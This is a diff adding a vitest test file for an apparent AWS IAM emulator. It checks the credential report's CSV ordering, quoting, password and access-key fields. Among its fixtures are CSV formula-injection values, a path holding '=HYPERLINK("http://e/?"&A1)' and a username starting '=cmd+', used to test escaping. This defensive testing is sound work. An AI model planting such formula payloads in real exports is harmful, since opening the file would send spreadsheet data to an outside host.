@@ -1,0 +1,191 @@
+import { afterAll, beforeAll, describe, expect, it } from 'vitest'
+import { readCredentialReport, type ReportRow } from '../../../../test/credential-report-reader.ts'
+import { expectOk, type Answer, type TestHouse } from '../../../../test/harness.ts'
+import { engines, openOn } from '../../../../test/houses.ts'
+import { hour } from '../../../domain/clock.ts'
+import { openWriter } from '../../../operator/place.ts'
+import { statement } from '../../../store/statement.ts'
+import type { Transaction } from '../../../store/transaction.ts'
+
+const generate = (house: TestHouse) => house.iam(house.root, 'GenerateCredentialReport')
+const get = (house: TestHouse) => house.iam(house.root, 'GetCredentialReport')
+const csvOf = (answer: Answer) => Buffer.from(answer.get('Content') ?? '', 'base64').toString()
+
+/** Asks for a report, waits for it, and takes it. */
+async function report(house: TestHouse): Promise<string> {
+  expect((await expectOk(generate(house))).get('State')).toBe('STARTED')
+  await house.reports.settled()
+  expect((await expectOk(generate(house))).get('State')).toBe('COMPLETE')
+  expect(house.faults).toEqual([])
+  return csvOf(await expectOk(get(house)))
+}
+
+/** What passwords and their policy write, beside the operations. */
+async function write(house: TestHouse, body: (tx: Transaction) => Promise<void>): Promise<void> {
+  const writer = openWriter(house.place, () => house.now)
+  await writer.change((tx) => body(tx))
+  await writer.close()
+}
+
+const insertPassword = statement<{ owner: string; userId: string | null; at: number; usedAt: number | null }>(
+  (db, { owner, userId, at, usedAt }) =>
+    db.insertInto('login_profile').values({
+      owner,
+      account_id: '123456789012',
+      user_id: userId,
+      hash: 'hash',
+      stamp: 'stamp',
+      reset_required: 0,
+      created_at: at,
+      changed_at: at,
+      ends_at: null,
+      used_at: usedAt,
+    }),
+)
+
+const insertPolicy = statement<{ days: number | null }>((db, { days }) =>
+  db.insertInto('password_policy').values({
+    account_id: '123456789012',
+    minimum_length: 8,
+    require_symbols: 0,
+    require_numbers: 0,
+    require_uppercase: 0,
+    require_lowercase: 0,
+    users_may_change: 1,
+    days_max: days,
+    reuse_prevention: null,
+    hard_expiry: 0,
+  }),
+)
+
+const idOf = async (house: TestHouse, UserName: string) =>
+  (await expectOk(house.iam(house.root, 'GetUser', { UserName }))).get('UserId') ?? ''
+
+describe.each(engines)('on %s the report', (engine) => {
+  let house: TestHouse
+  let csv: string
+  let rows: readonly ReportRow[]
+  const of = (user: string) => Object.fromEntries(rows.find((row) => row.get('user') === user) ?? [])
+  const formula = '/x,=HYPERLINK("http://e/?"&A1),/'
+  const odd = '=cmd+a,b.c@d-'
+
+  beforeAll(async () => {
+    house = await openOn(engine)
+    const as = (action: string, parameters: Record<string, string>) =>
+      expectOk(house.iam(house.administrator, action, parameters))
+    await as('CreateUser', { UserName: 'zoe' })
+    await as('CreateUser', { UserName: 'Bob' })
+    await as('CreateUser', { UserName: odd })
+    await as('CreateUser', { UserName: 'formula', Path: formula })
+    const alice = await house.user('alice')
+    await house.sts(alice, 'GetCallerIdentity')
+    const another = await as('CreateAccessKey', { UserName: 'alice' })
+    const off = { UserName: 'alice', AccessKeyId: another.get('AccessKeyId') ?? '', Status: 'Inactive' }
+    await as('UpdateAccessKey', off)
+    const carol = { UserName: 'carol', AccessKeyId: (await house.user('carol')).accessKeyId }
+    await as('UpdateAccessKey', { ...carol, Status: 'Inactive' })
+    await as('UpdateAccessKey', { ...carol, Status: 'Active' })
+    const [zoe, bob] = [await idOf(house, 'zoe'), await idOf(house, 'Bob')]
+    const at = Date.parse('2026-01-31T10:20:30.999Z')
+    await write(house, async (tx) => {
+      await tx.run(insertPassword, { owner: zoe, userId: zoe, at, usedAt: null })
+      await tx.run(insertPassword, { owner: bob, userId: bob, at, usedAt: at + hour })
+      await tx.run(insertPassword, { owner: '123456789012', userId: null, at, usedAt: at })
+      await tx.run(insertPolicy, { days: 90 })
+    })
+    csv = await report(house)
+    rows = readCredentialReport(csv)
+  })
+  afterAll(() => house.close())
+
+  it('has the root user first, then users in order of their names without regard to case', () => {
+    expect(rows.map((row) => row.get('user'))).toEqual([
+      '<root_account>',
+      odd,
+      'administrator',
+      'alice',
+      'Bob',
+      'carol',
+      'formula',
+      'zoe',
+    ])
+  })
+
+  it('parts lines by a line feed, and ends with none', () => {
+    expect(csv).not.toMatch(/\r|\n$|^\ufeff/)
+    expect(csv.split('\n')).toHaveLength(9)
+  })
+
+  it('quotes what holds a comma or a quote, and nothing else', () => {
+    expect(csv).toContain(`\n"${odd}","arn:aws:iam::123456789012:user/${odd}",20`)
+    expect(csv).toContain('\nformula,"arn:aws:iam::123456789012:user/x,=HYPERLINK(""http://e/?""&A1),/formula",20')
+    expect(of('formula')['arn']).toBe(`arn:aws:iam::123456789012:user${formula}formula`)
+    expect(csv.split('"')).toHaveLength(1 + 4 + 6)
+  })
+
+  it('tells of root its keys and when its password was used', () => {
+    expect(of('<root_account>')).toMatchObject({
+      arn: 'arn:aws:iam::123456789012:root',
+      password_enabled: 'not_supported',
+      password_last_used: '2026-01-31T10:20:30Z',
+      password_last_changed: 'not_supported',
+      password_next_rotation: 'not_supported',
+      mfa_active: 'false',
+      access_key_1_active: 'true',
+      access_key_1_last_used_region: 'us-east-1',
+      access_key_1_last_used_service: 'iam',
+      access_key_2_active: 'false',
+      access_key_2_last_rotated: 'N/A',
+    })
+  })
+
+  it('tells of a user that there is nothing to tell of', () => {
+    expect(csv.split('\n').find((line) => line.startsWith('formula,'))).toMatch(
+      /Z,false,N\/A,N\/A,N\/A,false,false,N\/A,N\/A,N\/A,N\/A,false,N\/A,N\/A,N\/A,N\/A,false,N\/A,false,N\/A$/,
+    )
+  })
+
+  it('tells of passwords when they were used and changed, and when they expire', () => {
+    expect(of('Bob')).toMatchObject({
+      password_enabled: 'true',
+      password_last_used: '2026-01-31T11:20:30Z',
+      password_last_changed: '2026-01-31T10:20:30Z',
+      password_next_rotation: '2026-05-01T10:20:30Z',
+    })
+    expect(of('zoe')).toMatchObject({ password_enabled: 'true', password_last_used: 'no_information' })
+    expect(of('alice')).toMatchObject({ password_enabled: 'false', password_last_used: 'N/A' })
+  })
+
+  it('has keys in order of their ids, with uses that were not written yet', async () => {
+    const listed = await expectOk(house.iam(house.root, 'ListAccessKeys', { UserName: 'alice' }))
+    const states = listed.all('Status').map((status) => String(status === 'Active'))
+    expect([of('alice')['access_key_1_active'], of('alice')['access_key_2_active']]).toEqual(states)
+    const used = states.indexOf('true') + 1
+    expect(of('alice')).toMatchObject({
+      [`access_key_${used}_last_used_service`]: 'sts',
+      [`access_key_${3 - used}_last_used_service`]: 'N/A',
+      [`access_key_${3 - used}_last_used_date`]: 'N/A',
+    })
+    expect(of('alice')[`access_key_${3 - used}_last_rotated`]).not.toBe('N/A')
+  })
+
+  it('does not take a key for rotated that was activated again', async () => {
+    const created = (await expectOk(house.iam(house.root, 'ListAccessKeys', { UserName: 'carol' }))).get('CreateDate')
+    expect(of('carol')).toMatchObject({ access_key_1_active: 'true', access_key_1_last_rotated: created })
+  })
+
+  it('comes as AWS sends it', async () => {
+    expect((await expectOk(get(house))).body).toMatch(
+      /^<GetCredentialReportResponse [^>]+>\n {2}<GetCredentialReportResult>\n {4}<Content>[\w+/=]+<\/Content>\n {4}<ReportFormat>text\/csv<\/ReportFormat>\n {4}<GeneratedTime>[^<]+Z<\/GeneratedTime>\n {2}<\/Get/,
+    )
+  })
+
+  it('stays the same bytes whatever is changed after it, and moves nothing while it is fresh', async () => {
+    await expectOk(house.iam(house.root, 'DeleteUser', { UserName: 'formula' }))
+    const head = await house.house.directory.settle((view) => view.head)
+    const again = await expectOk(generate(house))
+    expect([again.get('State'), again.get('Description')]).toEqual(['COMPLETE', undefined])
+    expect(csvOf(await expectOk(get(house)))).toBe(csv)
+    expect(await house.house.directory.settle((view) => view.head)).toEqual(head)
+  })
+})
